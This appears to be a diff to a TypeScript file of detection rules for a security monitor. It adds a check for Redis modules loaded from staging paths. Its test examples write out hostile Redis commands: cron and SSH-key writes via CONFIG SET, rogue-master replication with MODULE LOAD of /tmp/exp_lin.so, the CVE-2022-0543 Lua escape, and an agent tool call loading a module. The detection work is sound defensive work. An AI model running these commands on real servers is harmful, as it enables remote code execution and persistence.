@@ -671,7 +671,9 @@ export const RULES: readonly Rule[] = [
         if (all.length < 16384) all += text + '\n';
         const dir = /config\s+set\s+(?:dir|dbfilename)\b/i.test(text) && /\/(?:etc\/cron|var\/spool\/cron|root\/\.ssh|\.ssh)|authorized_keys|crontabs?\b/i.test(text);
         // Debian's Redis Lua escape (CVE-2022-0543): package.loadlib reaches the system's Lua io library
-        if (dir || /\bsystem\.exec\b/i.test(text) || (/\beval\b/i.test(text) && /package\.loadlib|io\.popen|os\.execute/.test(text))) out.push(c.argv.join(' ').slice(0, 200));
+        // a module is native code the server runs: one loaded from a temporary or hidden place was dropped there
+        const module = /\bmodule\s+load\s+(\S{1,512})/i.exec(text)?.[1];
+        if (dir || (module !== undefined && isStagingPath(module)) || /\bsystem\.exec\b/i.test(text) || (/\beval\b/i.test(text) && /package\.loadlib|io\.popen|os\.execute/.test(text))) out.push(c.argv.join(' ').slice(0, 200));
       }
       // replication from a rogue master, then its module loaded, may take two commands; a master at a public
       // address or a tunnel is that rogue master even before the module comes
@@ -679,7 +681,7 @@ export const RULES: readonly Rule[] = [
       if (master && (/module\s+load/i.test(all) || EXFIL_KINDS.has(classifyHost(master[1]!)))) out.push(all.trim().slice(0, 200));
       return out;
     },
-    examples: { fire: [`echo -e 'CONFIG SET dir /etc/cron.d\\r\\nCONFIG SET dbfilename sync\\r\\nSAVE\\r\\n' | nc -w 3 10.0.0.12 6379`, 'redis-cli -h 10.0.0.12 config set dir /root/.ssh', 'redis-cli -h 10.0.0.12 SLAVEOF 45.9.148.71 6379 && redis-cli -h 10.0.0.12 MODULE LOAD /tmp/exp_lin.so', 'redis-cli -h 10.0.4.12 REPLICAOF 203.0.113.7 6379', `redis-cli -h 10.0.11.6 eval 'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); return f:read("*a")' 0`], quiet: ['redis-cli -h localhost ping', 'redis-cli -h redis-replica-1 REPLICAOF redis-primary.internal 6379', 'redis-cli config set maxmemory 256mb', 'redis-cli --scan --pattern "session:*"'] },
+    examples: { fire: [`echo -e 'CONFIG SET dir /etc/cron.d\\r\\nCONFIG SET dbfilename sync\\r\\nSAVE\\r\\n' | nc -w 3 10.0.0.12 6379`, 'redis-cli -h 10.0.0.12 config set dir /root/.ssh', 'redis-cli -h 10.0.0.12 SLAVEOF 45.9.148.71 6379 && redis-cli -h 10.0.0.12 MODULE LOAD /tmp/exp_lin.so', 'redis-cli -h 10.0.4.12 REPLICAOF 203.0.113.7 6379', { Unknown: { tool_name: 'mcp__redis__execute_command', params: { command: 'MODULE', args: ['LOAD', '/tmp/exp.so'] } } }, `redis-cli -h 10.0.11.6 eval 'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); return f:read("*a")' 0`], quiet: ['redis-cli -h localhost ping', 'redis-cli -h redis-replica-1 REPLICAOF redis-primary.internal 6379', 'redis-cli config set maxmemory 256mb', 'redis-cli --scan --pattern "session:*"', 'redis-cli MODULE LOAD /opt/redis-stack/lib/redisearch.so'] },
   },
   {
     id: 'PX-LATERAL-022', name: 'routes-ssh-through-outside-jump-host', score: 75, tactic: 'credential_access', technique: 'T1557',
